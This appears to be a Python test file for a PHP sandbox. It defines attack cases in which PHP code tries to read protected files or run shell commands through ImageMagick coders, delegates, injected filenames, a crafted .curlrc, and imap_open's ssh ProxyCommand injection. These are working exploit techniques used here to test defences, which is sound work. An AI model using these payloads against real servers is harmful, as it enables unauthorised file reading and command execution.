# SPDX-License-Identifier: GPL-2.0-or-later
"""Hostile scripts that have a library do it: ImageMagick's formats that are programs in themselves, its delegates, and
the shell that imap_open() was once known for.

The server's policy.xml is empty in all places, so that what stops an attack is the jail. `$look` reads a picture in
another process (payloads/picture.php).
"""

from __future__ import annotations

from tests.attacks.cases import Script

CONTROLLED = """
        $reached = function (array $ways, string $secret, string $same, string $other) use ($look): string {
            $differs = fn ($way) => ($seen = $look($way($same))) !== '' && $seen !== $look($way($other));
            $able = array_filter($ways, $differs);
            if ($able === []) {
                throw new RuntimeException('ImageMagick does none of it');
            }
            $shown = array_filter($able, fn ($way) => $look($way($secret)) === $look($way($same)));
            return implode(' ', array_keys($shown));
        };
"""
"""Names of the ways by which ImageMagick shows the secret; each has to work with a file of the site's own."""

PICTURES = (
    Script("imagick-text", "have ImageMagick write a file of the server into a picture: text:, label:@", "Oss",
        CONTROLLED + """
        file_put_contents("$own/same", "OUTSIDE-OF-ALL\\n");
        file_put_contents("$own/other", "ANOTHER\\n");
        $ways = array_map(fn ($way) => fn ($file) => [$way . $file], ['label:@', 'caption:@', 'text:']);
        return $reached($ways, '/srv/outside/secret', "$own/same", "$own/other");
    """, "policy.xml allows it here, as in all rows of ImageMagick; Debian's own forbids `@`."),
    Script("imagick-drawing", "have ImageMagick show a picture of the server's: MVG, SVG, msl:, ephemeral:", "Oss",
        CONTROLLED + """
        foreach (['same' => '#123456', 'other' => '#654321'] as $name => $color) {
            $image = new Imagick();
            $image->newImage(20, 20, $color);
            $image->writeImage("png:$own/$name.png");
        }
        $write = function (string $format, string $text) use ($own): array {
            file_put_contents("$own/drawing", $text);
            @unlink("$own/drawn.png");
            return ["$format:$own/drawing", ...($format === 'msl' ? ["$own/drawn.png"] : [])];
        };
        $svg = '<svg width="20" height="20" xmlns="http://www.w3.org/2000/svg"'
            . ' xmlns:xlink="http://www.w3.org/1999/xlink">';
        $ways = [
            'mvg' => fn ($file) => $write('mvg', "viewbox 0 0 20 20\\nimage over 0,0 20,20 '$file'\\n"),
            'svg' => fn ($file) => $write('svg', "$svg<image xlink:href='$file' width='20' height='20'/></svg>"),
            'msvg' => fn ($file) => $write('msvg', "$svg<image xlink:href='$file' width='20' height='20'/></svg>"),
            'msl' => fn ($file) => $write('msl',
                "<image><read filename='$file'/><write filename='$own/drawn.png'/></image>"),
            'ephemeral' => fn ($file) => ["ephemeral:$file"],
        ];
        return $reached($ways, '/srv/outside/picture.png', "$own/same.png", "$own/other.png");
    """, "Debian's ImageMagick deletes nothing by `ephemeral:` any more."),
    Script("imagick-https", "have ImageMagick start curl, its delegate for https:, and curl read a file", "Oss", """
        file_put_contents("$own/.curlrc", "url = \\"file:///srv/outside/secret\\"\\noutput = \\"$own/fetched\\"\\n");
        putenv("CURL_HOME=$own");
        $look(['https:/127.0.0.1:9/picture.gif']);
        putenv('CURL_HOME');
        return (string) @file_get_contents("$own/fetched");
    """),
    Script("imagick-delegates", "have ImageMagick start a shell: the site's own delegates.xml", "Oss", """
        file_put_contents("$own/delegates.xml", '<delegatemap><delegate decode="attack" command="'
            . "cat /srv/outside/secret &gt;$own/ran; exit\\"/></delegatemap>");
        file_put_contents("$own/picture.attack", 'attack');
        putenv("MAGICK_CONFIGURE_PATH=$own");
        $look(["attack:$own/picture.attack"]);
        putenv('MAGICK_CONFIGURE_PATH');
        return (string) @file_get_contents("$own/ran");
    """),
    Script("imagick-names", "have ImageMagick start a shell: pipes and quotes in names of pictures", "Oss", """
        $command = "id >$own/ran";
        $remote = ["a\\"|$command;\\"", "a'|$command;'", "`$command`", "a;$command;"];
        $names = ["|$command", "gif:|$command", "$own/a\\"|id >ran;\\".ps", "$own/`id >ran`.pdf",
            ...array_map(fn ($name) => "https:/127.0.0.1:9/$name", $remote)];
        file_put_contents("$own/delegates.xml",
            '<delegatemap><delegate decode="https:decode" command="echo %M &gt;\\'%u.dat\\'"/></delegatemap>');
        chdir($own);
        foreach (['', $own] as $place) {
            putenv($place === '' ? 'MAGICK_CONFIGURE_PATH' : "MAGICK_CONFIGURE_PATH=$place");
            foreach ($names as $name) {
                @file_put_contents($name, '%!PS');
                $look([$name]);
            }
        }
        putenv('MAGICK_CONFIGURE_PATH');
        chdir(dirname($own));
        return (string) @file_get_contents("$own/ran");
    """, "Debian's delegates.xml has quotes around names; in all places it is also tried with one that has not."),
)  # fmt: skip

IMAP = (
    Script("imap", "have imap_open() run a command: ssh's -oProxyCommand in the name of a mailbox", "Oss", """
        file_put_contents("$own/command", "id >$own/ran; sleep 1");
        $proxy = "-oProxyCommand=/bin/sh\\t$own/command";
        if (function_exists('imap_open')) {
            @imap_open("{x $proxy}:143/imap}INBOX", '', '');
            @imap_open("{x $proxy}", '', '');
            imap_errors();
        }
        foreach (['/usr/bin/rsh', '/usr/bin/ssh'] as $program) {
            $start([$program, str_replace("\\t", ' ', $proxy), 'x']);
        }
        return (string) @file_get_contents("$own/ran");
    """, "Debian's imap_open starts no rsh any more, whatever PHP is told, and trixie has no php-imap: the "
        "control is rsh and ssh themselves."),
)  # fmt: skip

CASES = (*PICTURES, *IMAP)
